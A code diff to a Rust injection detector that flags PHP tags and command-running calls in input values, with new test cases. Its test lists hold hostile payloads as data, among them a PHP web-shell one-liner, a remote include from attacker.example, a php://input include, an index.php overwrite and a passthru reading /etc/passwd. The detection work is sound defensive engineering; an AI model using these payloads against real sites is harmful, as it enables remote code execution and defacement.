@@ -2,7 +2,11 @@
 //!
 //! Input: a normalized value, the value in its original case (for base64), its byte classes and
 //! a scratch buffer. Output: confirmed or suspicious. Confirmed:
-//! - a PHP open tag with code after it (`<?php`, `<?=`);
+//! - a PHP open tag (`<?php`, `<?=`) whose code, up to its `?>`, runs a command or code, reads
+//!   input or probes: a call in [`CALLS`] (an `include`/`require` only of a URL or stream
+//!   wrapper or input), a backtick, a superglobal, or a probe that only a payload makes there
+//!   (`md5(`, `phpversion(`, `file_get_contents(`…); PHP that only echoes (`<?php echo $name; ?>`,
+//!   quoted in a code review) is suspicious;
 //! - a call of a function that runs commands or code (`system(`, `passthru(`, `eval(`,
 //!   `assert(`, `phpinfo(`, `os.popen(`, `Runtime.getRuntime().exec(`,
 //!   `require('child_process')`, `process.mainModule.require(`…) whose argument is a literal, a
@@ -145,6 +149,51 @@ fn variables(s: &[u8]) -> (bool, bool) {
     (false, suspicious)
 }
 
+/// Probes that PHP code in a tag only runs as a payload (not `echo(`, `print(`, `die(`, which a
+/// template prints with).
+const TAG_PROBES: &[&str] = &[
+    "md5(", "sha1(", "crc32(", "sleep(", "usleep(", "phpversion(", "php_uname(", "getenv(", "readfile(", "highlight_file(",
+    "show_source(", "file_get_contents(", "fopen(", "unlink(",
+];
+
+/// Whether the code in a PHP tag runs a command or code, reads input, or probes.
+fn runs_something(code: &[u8]) -> bool {
+    classes::tick(code.len());
+    if code.contains(&b'`') {
+        return true;
+    }
+    const INPUT: &[&[u8]] = &[b"_get", b"_post", b"_cookie", b"_request", b"_server", b"_files"];
+    let superglobal = memchr::memchr_iter(b'$', code).any(|i| INPUT.iter().any(|g| code[i + 1..].starts_with(g)));
+    if superglobal {
+        return true;
+    }
+    // `include`/`require` (with or without parentheses) of a local file by a name is what
+    // templates do; of a URL or a stream wrapper it is a payload.
+    const REMOTE: &[&[u8]] = &[b"http:", b"https:", b"ftp:", b"php:", b"data:", b"expect:", b"zip:", b"phar:", b"//", b"\\\\"];
+    for word in [&b"include"[..], b"require"] {
+        for i in memchr::memmem::find_iter(code, word) {
+            let mut j = i + word.len();
+            j += if code[j..].starts_with(b"_once") { 5 } else { 0 };
+            let arg = &code[j..];
+            let arg = &arg[arg.iter().take(8).take_while(|b| matches!(b, b' ' | b'\'' | b'"' | b'(')).count()..];
+            if REMOTE.iter().any(|r| arg.starts_with(r)) {
+                return true;
+            }
+        }
+    }
+    calls().find_iter(code).any(|m| {
+        classes::tick(32);
+        if m.start() > 0 && (code[m.start() - 1].is_ascii_alphanumeric() || code[m.start() - 1] == b'_') {
+            return false;
+        }
+        let name = &code[m.start()..m.end()];
+        if m.pattern().as_usize() >= CALLS.len() {
+            return TAG_PROBES.iter().any(|p| p.as_bytes() == name);
+        }
+        !(name.starts_with(b"include") || name.starts_with(b"require"))
+    })
+}
+
 fn calls() -> &'static AhoCorasick {
     static C: OnceLock<AhoCorasick> = OnceLock::new();
     C.get_or_init(|| {
@@ -155,21 +204,27 @@ fn calls() -> &'static AhoCorasick {
 
 /// PHP tags and calls. Returns (confirmed, suspicious).
 fn tags_and_calls(s: &[u8], mask: Mask) -> (bool, bool) {
+    let mut tag_seen = false;
     if mask & classes::QUESTION != 0 && mask & classes::LT != 0 {
-        for tag in [&b"<?php"[..], b"<?="] {
-            if let Some(k) = classes::find(s, tag) {
-                if s[k + tag.len()..].iter().any(|b| b.is_ascii_alphanumeric() || *b == b'$') {
-                    return (true, true);
-                }
+        let mut from = 0;
+        while let Some(k) = classes::find(&s[from..], b"<?") {
+            let at = from + k + 2;
+            let body = if s[at..].starts_with(b"php") { at + 3 } else if s[at..].starts_with(b"=") { at + 1 } else { from = at; continue };
+            let end = classes::find(&s[body..], b"?>").map_or(s.len(), |j| body + j);
+            let code = &s[body..end];
+            tag_seen |= code.iter().any(|b| b.is_ascii_alphanumeric() || *b == b'$');
+            if runs_something(code) {
+                return (true, true);
             }
+            from = end;
         }
     }
     // A call: an identifier byte right before a `(`.
     let called = |i: usize| i > 0 && (s[i - 1].is_ascii_alphanumeric() || s[i - 1] == b'_');
     if mask & classes::PAREN == 0 || !memchr::memchr_iter(b'(', s).any(called) {
-        return (false, false);
+        return (false, tag_seen);
     }
-    let mut suspicious = classes::contains(s, b"child_process") || classes::contains(s, b"process.mainmodule");
+    let mut suspicious = tag_seen || classes::contains(s, b"child_process") || classes::contains(s, b"process.mainmodule");
     classes::tick(s.len());
     for m in calls().find_iter(s) {
         classes::tick(32);
@@ -227,6 +282,11 @@ mod tests {
         for p in [
             "<?php system($_GET['c']); ?>",
             "<?= `id` ?>",
+            "<?php echo $_GET['x']; ?>",
+            "<?php include('http://attacker.example/s.txt'); ?>",
+            "<?php include 'php://input'; ?>",
+            "<?php echo md5('probe'); ?>",
+            "<?php echo(\"KURWA\"); file_put_contents(\"./index.php\", base64_decode(\"Pz4=\")); ?>",
             "system('id')",
             "';system('id');//",
             "\".passthru('cat /etc/passwd').\"",
@@ -283,6 +343,10 @@ mod tests {
             "Why does eval(x) fail?",
             "ast.literal_eval(node)",
             "What is <? in XML",
+            "Should we use <?php echo htmlspecialchars($name); ?> here instead of echo $_GET[\"name\"]?",
+            "<?php echo $name; ?>",
+            "<?= $user->name ?>",
+            "<?php include 'header.php'; ?>",
             "Use md5($password) and then die('bad login'); is that safe?",
             "$name = 'x'; die('stop');",
             "if ($x) { exit(1); }",
@@ -301,6 +365,7 @@ mod tests {
             assert!(!code(t).0, "{t}");
         }
         assert_eq!(code("    result = os.system(cmd)"), (false, true));
+        assert_eq!(code("<?php echo $name; ?>"), (false, true), "echo-only PHP is suspicious");
         assert_eq!(code("$_SERVER"), (false, true));
         assert_eq!(code("Is process.mainModule.require(name) deprecated? Use require.main"), (false, true));
     }
